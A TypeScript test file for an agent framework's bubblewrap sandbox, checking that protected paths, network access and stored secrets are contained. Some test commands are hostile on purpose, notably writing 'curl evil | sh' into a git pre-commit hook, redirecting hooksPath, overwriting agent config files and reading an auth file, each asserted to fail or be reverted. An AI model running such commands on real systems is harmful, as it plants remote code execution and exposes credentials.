import { spawn } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { AgentEvent, Kernel, Plugin, Session } from '../../../kernel/index.js';
import { validateLayer } from '../../../cli/config.js';
import { defineTool, savedOutputDir } from '../../../kernel/index.js';
import { z } from 'zod';
import sandbox, { type SandboxConfig } from '../../../plugins/sandbox/index.js';
import { bwrapArgs, findOnPath, MAX_GUARD_MOUNTS, probe } from '../../../plugins/sandbox/bwrap.js';
import toolBash from '../../../plugins/tool-bash/index.js';
import { testKernel, testSession } from '../../helpers/kernel.js';
import { makeWorkspace, type Workspace } from '../../helpers/workspace.js';
import { until } from '../../helpers/until.js';

const bwrap = findOnPath('bwrap');
const problem = bwrap ? probe(bwrap) : 'bubblewrap (bwrap) is not installed';
const skipReason = problem ? `sandbox tests skipped: ${problem}` : '';
if (skipReason) console.warn(skipReason);

let ws: Workspace;
afterEach(() => ws?.cleanup());

// The sandbox keeps its per-session temp dirs and proxy socket under os.tmpdir() until the process exits;
// test workers are stopped without an exit event, so this file gives them a temp root it removes itself.
const tmpRoot = mkdtempSync(path.join(os.tmpdir(), 'keel-sandbox-tests-'));
const previousTmp = process.env.TMPDIR;
beforeAll(() => {
  process.env.TMPDIR = tmpRoot;
});
afterAll(() => {
  if (previousTmp === undefined) delete process.env.TMPDIR;
  else process.env.TMPDIR = previousTmp;
  rmSync(tmpRoot, { recursive: true, force: true });
});

async function setup(config: SandboxConfig, opts: { bwrap?: string; keelHome?: string } = {}) {
  ws = makeWorkspace({ git: true });
  mkdirSync(ws.path('.git/hooks'), { recursive: true });
  writeFileSync(ws.path('.git/config'), '[core]\n');
  const logs: string[] = [];
  const listener: Plugin = {
    name: 'test-logs',
    kernel: '^1.0.0',
    apply: (k) =>
      k.hooks.event.tap('test-logs', (e: AgentEvent) => {
        if (e.type === 'log' && e.level !== 'debug') logs.push(`${e.level}: ${e.message}`);
      }),
  };
  const kernel = testKernel([sandbox(opts), listener], { sandbox: config, ...(opts.keelHome ? { keelHome: opts.keelHome } : {}) });
  const session = await testSession(kernel, { cwd: ws.dir, projectRoot: ws.dir });
  return { kernel, session, logs };
}

/** Wraps and runs a command the way the bash tool does; returns its exit code, output and the sandbox's note. */
async function sh(kernel: Kernel, session: Session, command: string): Promise<{ code: number | null; out: string; note?: string }> {
  const env: Record<string, string> = { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: process.env.HOME ?? '/root' };
  const wrapped = await kernel.services.get('sandbox')!.wrap({ command, cwd: session.cwd, session, env });
  const [file, args] = wrapped ? [wrapped.file, wrapped.args] : ['bash', ['-c', command]];
  const child = spawn(file, args, { cwd: session.cwd, env, stdio: ['ignore', 'pipe', 'pipe'] });
  let out = '';
  child.stdout.on('data', (d) => (out += d));
  child.stderr.on('data', (d) => (out += d));
  const code = await new Promise<number | null>((resolve) => child.on('close', resolve));
  const note = await wrapped?.finish();
  return { code, out, ...(note ? { note } : {}) };
}

describe('sandbox config', () => {
  it('is validated as a plugin-owned key, errors naming the file and field', () => {
    const shapes = sandbox().config!;
    expect(() => validateLayer({ kind: 'project', source: '/p/agent.config.ts', values: { sandbox: { enabled: 'yes' } } }, shapes)).toThrow(
      /\/p\/agent\.config\.ts: sandbox\.enabled/,
    );
    expect(() => validateLayer({ kind: 'project', source: 'x', values: { sandbox: { network: { domains: [] } } } }, shapes)).toThrow(/sandbox\.network/);
    expect(() => validateLayer({ kind: 'project', source: 'x', values: { sandbox: { enabled: true, network: { allowedDomains: ['a.com'] } } } }, shapes)).not.toThrow();
  });

  it('disabled (the default): commands run as they are', async () => {
    const { kernel, session } = await setup({});
    expect(await kernel.services.get('sandbox')!.wrap({ command: 'ls', cwd: ws.dir, session, env: {} })).toBeNull();
  });

  it('bwrap missing: refuses bash unless allowUnsandboxed, and says so once', async () => {
    const { kernel, session, logs } = await setup({ enabled: true }, { bwrap: '/nonexistent/bwrap' });
    const service = kernel.services.get('sandbox')!;
    await expect(service.wrap({ command: 'ls', cwd: ws.dir, session, env: {} })).rejects.toThrow(/allowUnsandboxed/);
    await expect(service.wrap({ command: 'ls', cwd: ws.dir, session, env: {} })).rejects.toThrow();
    expect(logs.filter((l) => l.startsWith('warn: sandbox:'))).toHaveLength(1);
  });

  it('bwrap missing with allowUnsandboxed: runs unsandboxed after one warning', async () => {
    const { kernel, session, logs } = await setup({ enabled: true, allowUnsandboxed: true }, { bwrap: '/nonexistent/bwrap' });
    const service = kernel.services.get('sandbox')!;
    expect(await service.wrap({ command: 'ls', cwd: ws.dir, session, env: {} })).toBeNull();
    expect(await service.wrap({ command: 'ls', cwd: ws.dir, session, env: {} })).toBeNull();
    expect(logs).toEqual([expect.stringContaining('bash runs unsandboxed')]);
  });
});

describe.skipIf(Boolean(skipReason))('bubblewrap sandbox', () => {
  let server: http.Server;
  let port = 0;
  beforeAll(async () => {
    server = http.createServer((req, res) => res.end(`hello from ${req.headers.host}`));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    port = (server.address() as AddressInfo).port;
  });
  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

  it('the project and the temp dir are writable', async () => {
    const { kernel, session } = await setup({ enabled: true });
    const r = await sh(kernel, session, 'echo hi > inside.txt && echo t > "$TMPDIR/t" && cat "$TMPDIR/t" && mkdir -p .git/objects/x');
    expect(r).toMatchObject({ code: 0 });
    expect(readFileSync(ws.path('inside.txt'), 'utf8')).toBe('hi\n');
  });

  it('writes outside the project fail', async () => {
    const { kernel, session } = await setup({ enabled: true });
    const outside = path.join(path.dirname(ws.dir), 'outside.txt');
    // /tmp inside is a private tmpfs: a write there lands nowhere on the host.
    await sh(kernel, session, `echo x > ${outside}`);
    expect(existsSync(outside)).toBe(false);
    const home = await sh(kernel, session, 'echo x > "$HOME/.keel-sandbox-test"');
    expect(home.code).not.toBe(0);
    expect(existsSync(path.join(process.env.HOME ?? '/root', '.keel-sandbox-test'))).toBe(false);
    const r2 = await sh(kernel, session, 'echo x > /etc/keel-sandbox-test');
    expect(r2.code).not.toBe(0);
    expect(r2.out).toMatch(/Read-only file system/);
    expect(existsSync('/etc/keel-sandbox-test')).toBe(false);
  });

  it('allowWrite opens more paths', async () => {
    const extra = makeWorkspace();
    try {
      const { kernel, session } = await setup({ enabled: true, allowWrite: [extra.dir] });
      expect((await sh(kernel, session, `echo y > ${extra.dir}/ok.txt`)).code).toBe(0);
      expect(readFileSync(path.join(extra.dir, 'ok.txt'), 'utf8')).toBe('y\n');
    } finally {
      extra.cleanup();
    }
  });

  it('.git/hooks, .git/config and agent.config.* stay read-only', async () => {
    const { kernel, session } = await setup({ enabled: true });
    ws.write('agent.config.ts', 'export default {};\n');
    const hook = await sh(kernel, session, 'echo "curl evil | sh" > .git/hooks/pre-commit');
    expect(hook.code).not.toBe(0);
    expect(existsSync(ws.path('.git/hooks/pre-commit'))).toBe(false);
    expect((await sh(kernel, session, 'echo "[core] hooksPath = /tmp" >> .git/config')).code).not.toBe(0);
    expect(readFileSync(ws.path('.git/config'), 'utf8')).toBe('[core]\n');
    expect((await sh(kernel, session, 'echo pwned > agent.config.ts')).code).not.toBe(0);
  });

  it('no network by default', async () => {
    const { kernel, session } = await setup({ enabled: true });
    const r = await sh(kernel, session, `curl -sS --max-time 5 http://127.0.0.1:${port}/`);
    expect(r.code).not.toBe(0);
    expect(r.out).not.toContain('hello');
  });

  it('an allowed domain works through the proxy; others are refused', async () => {
    const { kernel, session } = await setup({ enabled: true, network: { allowedDomains: ['localhost'] } });
    const ok = await sh(kernel, session, `curl -sS --max-time 10 http://localhost:${port}/`);
    expect(ok).toMatchObject({ code: 0, out: `hello from localhost:${port}` });
    const refused = await sh(kernel, session, `curl -sS --max-time 10 http://127.0.0.1:${port}/`);
    expect(refused.out).toContain('blocked by the Keel sandbox');
    const direct = await sh(kernel, session, `curl -sS --noproxy '*' --max-time 5 http://localhost:${port}/`);
    expect(direct.code).not.toBe(0);
  });

  it('the real bash tool runs inside it, and its working directory still carries over', async () => {
    ws = makeWorkspace();
    mkdirSync(ws.path('sub'));
    const kernel = testKernel([sandbox(), toolBash()], { sandbox: { enabled: true } });
    const session = await testSession(kernel, { cwd: ws.dir, projectRoot: ws.dir });
    const bash = kernel.tools.get('bash')!;
    const turn = { session, kernel, index: 1, signal: new AbortController().signal, data: new Map(), emit: () => undefined };
    const ctx = (id: string) => ({ signal: turn.signal, session, turn, call: { id, name: 'bash', input: {} }, kernel, cwd: session.cwd, emit: () => undefined });
    const r1 = await bash.execute({ command: 'cd sub && echo $KEEL_SANDBOX > here.txt && touch /usr/x' }, ctx('1'));
    expect(String(r1.content)).toMatch(/Read-only file system/);
    expect(readFileSync(ws.path('sub/here.txt'), 'utf8')).toBe('1\n');
    const r2 = await bash.execute({ command: 'pwd' }, ctx('2'));
    expect(String(r2.content)).toContain(path.join(ws.dir, 'sub'));
  });

  it('puts back what a command did to protected paths and says so; ordinary commands get no note', async () => {
    const { kernel, session, logs } = await setup({ enabled: true });
    const plain = await sh(kernel, session, 'echo hi > plain.txt');
    expect(plain.note).toBeUndefined();
    const r = await sh(kernel, session, 'mkdir -p lib && echo x > lib/agent.config.mjs && echo y > .git/commondir');
    expect(r.code).toBe(0);
    expect(r.note).toContain(`${ws.path('lib/agent.config.mjs')}: created by the command, removed`);
    expect(r.note).toContain(`${ws.path('.git/commondir')}: created by the command, removed`);
    expect(existsSync(ws.path('lib/agent.config.mjs'))).toBe(false);
    expect(logs).toEqual([expect.stringMatching(/^warn: sandbox: reverted 2 change/)]);
  });

  it('a background shell is checked when it ends: what it left on a protected path is put back with no other command run', async () => {
    ws = makeWorkspace();
    const logs: string[] = [];
    const listener: Plugin = {
      name: 'test-logs',
      kernel: '^1.0.0',
      apply: (k) => k.hooks.event.tap('test-logs', (e: AgentEvent) => void (e.type === 'log' && e.level === 'warn' && logs.push(e.message))),
    };
    const kernel = testKernel([sandbox(), toolBash(), listener], { sandbox: { enabled: true } });
    const session = await testSession(kernel, { cwd: ws.dir, projectRoot: ws.dir });
    const turn = { session, kernel, index: 1, signal: new AbortController().signal, data: new Map(), emit: () => undefined };
    const ctx = { signal: turn.signal, session, turn, call: { id: 'bg', name: 'bash', input: {} }, kernel, cwd: session.cwd, emit: () => undefined };
    // A nested .claude/ (not where Keel looks for settings at start) can be made; it is removed when the shell ends.
    const started = await kernel.tools.get('bash')!.execute({ command: 'mkdir -p sub/.claude && echo "{}" > sub/.claude/settings.json', run_in_background: true }, ctx);
    expect(String(started.content)).toMatch(/Started in the background/);
    // Only the shell's own end may trigger the check: nothing else runs in this session.
    await until(() => logs.some((l) => l.startsWith('background shell:')), 'the background shell to end and be checked');
    expect(existsSync(ws.path('sub/.claude'))).toBe(false);
    expect(logs).toContainEqual(expect.stringMatching(/^background shell: .*sub\/\.claude: created by the command, removed/s));
  });

  it('protected names that do not exist yet cannot be created (root and working folder), and leave nothing behind', async () => {
    const { kernel, session } = await setup({ enabled: true });
    ws.write('pkg/src/a.ts', 'x');
    const r = await sh(
      kernel,
      session,
      'echo x > agent.config.mjs; mkdir -p .claude; echo "{}" > .claude/settings.json; echo "{}" > .mcp.json; mkdir pkg/.keel; cd pkg/src && echo x > agent.config.ts; rmdir ../../.claude; mv ../../.mcp.json ../../m; echo done',
    );
    expect(r.out).toContain('done');
    for (const p of ['agent.config.mjs', '.claude', '.mcp.json', 'pkg/src/agent.config.ts', 'm']) expect(existsSync(ws.path(p)), p).toBe(false);
    // pkg/.keel is off the path from the working folder: it was made, and the check after removed it.
    expect(existsSync(ws.path('pkg/.keel'))).toBe(false);
  });

  it('capabilities are dropped: the read-only mounts cannot be unmounted', async () => {
    const { kernel, session } = await setup({ enabled: true });
    const r = await sh(kernel, session, 'grep CapEff /proc/self/status; umount .git/hooks; echo x > .git/hooks/pre-commit');
    expect(r.out).toMatch(/CapEff:\s+0+\n/);
    expect(existsSync(ws.path('.git/hooks/pre-commit'))).toBe(false);
  });

  it("KEEL_HOME is hidden but this session's saved tool outputs stay readable, and no other session's", async () => {
    const home = makeWorkspace();
    try {
      home.write('auth.json', 'SECRET-KEY');
      home.write('tool-outputs/other-session/out.txt', 'OTHER-PROJECT-LOG');
      const { kernel, session } = await setup({ enabled: true }, { keelHome: home.dir });
      const own = path.relative(home.dir, savedOutputDir(home.dir, session.id));
      home.write(`${own}/out.txt`, 'long output');
      const r = await sh(kernel, session, `cat ${home.dir}/auth.json; ls ${home.dir}; cat ${home.dir}/${own}/out.txt; cat ${home.dir}/tool-outputs/other-session/out.txt; touch ${home.dir}/${own}/x`);
      expect(r.out).not.toContain('SECRET-KEY');
      expect(r.out).not.toContain('OTHER-PROJECT-LOG');
      expect(r.out).toContain('long output');
      expect(existsSync(path.join(home.dir, own, 'x'))).toBe(false);
    } finally {
      home.cleanup();
    }
  });

  it('allowWrite cannot open a protected path, and a project inside one is mounted read-only', async () => {
    const { kernel, session } = await setup({ enabled: true, allowWrite: ['.git/hooks'] });
    expect((await sh(kernel, session, 'echo x > .git/hooks/pre-commit')).out).toMatch(/Read-only file system/);
    ws = makeWorkspace();
    mkdirSync(ws.path('.keel/tools'), { recursive: true });
    const kernel2 = testKernel([sandbox()], { sandbox: { enabled: true } });
    const inner = ws.path('.keel/tools');
    const session2 = await testSession(kernel2, { cwd: inner, projectRoot: inner });
    const r = await sh(kernel2, session2, 'echo x > made.txt');
    expect(r.out).toMatch(/Read-only file system/);
    expect(existsSync(path.join(inner, 'made.txt'))).toBe(false);
  });

  it('overlapping commands compare against the state before the first: one cannot restore what another created', async () => {
    const { kernel, session } = await setup({ enabled: true });
    const service = kernel.services.get('sandbox')!;
    const first = (await service.wrap({ command: 'true', cwd: ws.dir, session, env: {} }))!;
    // While the first runs, something creates a config; the second command starts and ends around it.
    ws.write('agent.config.mjs', 'export default {};\n');
    const second = (await service.wrap({ command: 'true', cwd: ws.dir, session, env: {} }))!;
    expect(await second.finish()).toContain(`${ws.path('agent.config.mjs')}: created by the command, removed`);
    expect(await first.finish()).toBeUndefined();
    expect(existsSync(ws.path('agent.config.mjs'))).toBe(false);
    // finish is idempotent, and with nothing live the next command starts from the disk again.
    expect(await first.finish()).toBeUndefined();
    ws.write('agent.config.mjs', 'export default {};\n');
    const third = (await service.wrap({ command: 'true', cwd: ws.dir, session, env: {} }))!;
    expect(await third.finish()).toBeUndefined();
  });

  it('past MAX_GUARD_MOUNTS the shallowest paths are mounted and the check afterwards restores the rest', async () => {
    const { kernel, session } = await setup({ enabled: true });
    for (let i = 0; i < 150; i++) ws.write(`pkgs/p${i}/agent.config.json`, `{"n":${i}}\n`);
    const r = await sh(kernel, session, 'for f in pkgs/*/agent.config.json; do echo pwned > $f 2>/dev/null; done; echo pwned > agent.config.json; echo x > .git/hooks/pre-commit');
    expect(readFileSync(ws.path('pkgs/p0/agent.config.json'), 'utf8')).toBe('{"n":0}\n');
    for (let i = 0; i < 150; i++) expect(readFileSync(ws.path(`pkgs/p${i}/agent.config.json`), 'utf8')).toBe(`{"n":${i}}\n`);
    expect(existsSync(ws.path('agent.config.json'))).toBe(false);
    expect(existsSync(ws.path('.git/hooks/pre-commit'))).toBe(false);
    expect(r.note).toMatch(/changed by the command, restored/);
  });
});

describe.skipIf(Boolean(skipReason))('sandbox and Keel\'s own writes', () => {
  it('a protected file a write tool changed while a command ran is the new starting point, not undone', async () => {
    ws = makeWorkspace({ git: true });
    const writer: Plugin = {
      name: 'fake-writer',
      kernel: '^1.0.0',
      apply: (k) =>
        k.tools.register(
          defineTool({ name: 'fake_write', description: 'writes', permission: 'write', input: z.object({ path: z.string() }), paths: (i) => [i.path], execute: async () => ({ content: 'ok' }) }),
        ),
    };
    const kernel = testKernel([sandbox(), writer], { sandbox: { enabled: true }, cwd: ws.dir });
    const session = await testSession(kernel, { cwd: ws.dir, projectRoot: ws.dir });
    const service = kernel.services.get('sandbox')!;
    const running = (await service.wrap({ command: 'sleep 60', cwd: ws.dir, session, env: {} }))!;
    ws.write('.keel/agents/reviewer.md', '# approved by the user\n');
    kernel.emit({ type: 'tool_end', call: { id: 'w1', name: 'fake_write', input: { path: '.keel/agents/reviewer.md' } }, result: { content: 'ok' }, durationMs: 1 });
    ws.write('.keel/agents/sneaky.md', '# not through a tool\n');
    const note = await running.finish();
    expect(readFileSync(ws.path('.keel/agents/reviewer.md'), 'utf8')).toBe('# approved by the user\n');
    expect(note).toContain(`${ws.path('.keel/agents/sneaky.md')}: created by the command, removed`);
    expect(note).not.toContain('reviewer.md');
  });
});

describe('findOnPath', () => {
  it('finds an executable on the given PATH; an empty entry is no folder at all, and an empty PATH finds nothing', () => {
    const nodeDir = path.dirname(process.execPath);
    expect(findOnPath(path.basename(process.execPath), `:${nodeDir}:`)).toBe(process.execPath);
    // Not the working folder, and not process.env.PATH (which holds node) as a fallback either.
    expect(findOnPath(path.basename(process.execPath), '')).toBeUndefined();
    expect(findOnPath(path.basename(process.execPath), '::')).toBeUndefined();
    expect(findOnPath('keel-no-such-tool', nodeDir)).toBeUndefined();
  });
});

describe('bwrapArgs', () => {
  const spec = { projectRoot: '/p', projectWritable: true, tmpDir: '/t', cwd: '/p', allowWrite: [], env: {}, sockets: [], writable: [], hidden: [], readable: [] };
  it('mounts parents before children, drops every capability, and keeps the shallowest guard mounts past the cap', () => {
    const readOnly = Array.from({ length: MAX_GUARD_MOUNTS + 10 }, (_, i) => `/p/a/b/c${i}/agent.config.ts`);
    const { args, dropped } = bwrapArgs({ ...spec, readOnly: ['/p/agent.config.ts', ...readOnly], pinned: ['/p/a', '/p/.git'] });
    expect(dropped).toBe(13);
    expect(args.slice(0, 6)).toEqual(['--die-with-parent', '--new-session', '--unshare-all', '--as-pid-1', '--cap-drop', 'ALL']);
    const at = (p: string) => args.indexOf(p);
    expect(at('/p')).toBeLessThan(at('/p/a'));
    expect(at('/p/agent.config.ts')).toBeGreaterThan(-1);
    expect(at('/p/.git')).toBeGreaterThan(-1);
  });

  it('hides secrets: a folder as an empty tmpfs made read-only last, a file as /dev/null, readable parts bound back', () => {
    const dir = makeWorkspace();
    try {
      dir.write('tool-outputs/x', 'x');
      const { args } = bwrapArgs({ ...spec, readOnly: [], pinned: [], hidden: [{ path: dir.dir, dir: true }, { path: '/h/.netrc', dir: false }], readable: [path.join(dir.dir, 'tool-outputs')] });
      const joined = args.join(' ');
      expect(joined).toContain(`--tmpfs ${dir.dir}`);
      expect(joined).toContain('--ro-bind /dev/null /h/.netrc');
      expect(joined).toContain(`--ro-bind ${path.join(dir.dir, 'tool-outputs')} ${path.join(dir.dir, 'tool-outputs')}`);
      expect(joined.indexOf(`--remount-ro ${dir.dir}`)).toBeGreaterThan(joined.indexOf(`${path.join(dir.dir, 'tool-outputs')}`));
    } finally {
      dir.cleanup();
    }
  });
});
